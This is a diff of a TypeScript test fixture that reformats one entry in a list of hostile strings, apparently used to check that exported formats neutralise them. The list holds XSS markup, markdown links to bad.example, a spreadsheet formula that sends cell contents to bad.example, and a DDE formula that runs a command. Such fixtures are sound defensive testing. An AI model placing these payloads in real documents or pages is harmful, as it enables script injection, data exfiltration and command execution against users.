@@ -72,7 +72,8 @@ export const found = (changes: Partial<Incident> = {}): Incident =>
 /** Texts that would do something, or hide something, where a format does not hold them. */
 export const WORST: Readonly<Record<string, string>> = {
   markup: '<script>alert(1)</script><img src=x onerror="alert(2)"><style>*{display:none}</style></pre></title><!-- -->',
-  fences: '```\n# heading\n``````\n[a](https://bad.example/?q=1) <https://bad.example> ![p](https://bad.example/p.png)\n~~~',
+  fences:
+    '```\n# heading\n``````\n[a](https://bad.example/?q=1) <https://bad.example> ![p](https://bad.example/p.png)\n~~~',
   autolinks: 'www.bad.example https://bad.example/a someone@bad.example | a | b |\n| - | - |',
   formula: '=HYPERLINK("https://bad.example/?"&A1,"x")',
   formulas: '  +1+cmd|" /C calc"!A0',
